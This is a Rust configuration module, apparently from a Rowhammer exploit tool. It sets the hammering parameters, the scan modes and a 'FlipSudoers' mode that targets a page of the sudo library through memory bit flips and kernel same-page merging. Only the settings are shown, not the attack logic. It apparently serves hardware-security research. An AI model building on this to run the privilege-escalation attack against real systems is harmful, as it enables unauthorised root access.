//! Run configuration.
//!
//! The configuration is an immutable value built once (usually from the
//! command line) and threaded explicitly through the orchestrator into every
//! component.

use std::path::PathBuf;
use std::time::Duration;

use crate::util::{DEFAULT_ACTIVATIONS, DEFAULT_HAMMERING_ROUNDS, DEFAULT_RANDOM_PAIRS};
use serde::Serialize;

/// Path of the library whose page the exploit corrupts.
pub const SUDOERS_LIBRARY: &str = "/usr/lib/sudo/sudoers.so";

/// Which part of the buffer a run hammers.
#[derive(Clone, Copy, Debug, Serialize, PartialEq, Eq)]
pub enum ScanMode {
    /// Hammer every controllable bank of each region
    AllBanks,
    /// Hammer one bank
    Bank(usize),
    /// Hammer random aggressor pairs for flip statistics
    RandomPairs,
    /// Search templates and attempt the sudoers flip end to end
    FlipSudoers,
}

/// How the exploitation driver waits for kernel same-page merging.
#[derive(Clone, Copy, Debug, Serialize)]
pub enum MergeWait {
    /// Block on standard input until the operator confirms the merge
    Operator,
    /// Sleep for a fixed duration
    Sleep(Duration),
}

/// Run parameters for hammering and exploitation.
#[derive(Clone, Debug, Serialize)]
pub struct HammerConfig {
    /// Row activations per hammering round
    pub num_row_activations: u64,
    /// Hammering rounds per aggressor pair
    pub hammering_rounds: u64,
    /// Number of random aggressor pairs in [`ScanMode::RandomPairs`]
    pub random_pairs: u64,
    /// Background byte the buffer is filled with
    pub fill_byte: u8,
    /// Which part of the buffer this run hammers
    pub mode: ScanMode,
    /// How to wait for same-page merging
    pub merge_wait: MergeWait,
    /// The library whose page is corrupted
    pub target_library: PathBuf,
    /// Where the hex dump of the mutated victim page is written
    pub dump_path: PathBuf,
}

impl Default for HammerConfig {
    fn default() -> Self {
        HammerConfig {
            num_row_activations: DEFAULT_ACTIVATIONS,
            hammering_rounds: DEFAULT_HAMMERING_ROUNDS,
            random_pairs: DEFAULT_RANDOM_PAIRS,
            fill_byte: 0xFF,
            mode: ScanMode::Bank(0),
            merge_wait: MergeWait::Operator,
            target_library: PathBuf::from(SUDOERS_LIBRARY),
            dump_path: PathBuf::from("sudo_out"),
        }
    }
}
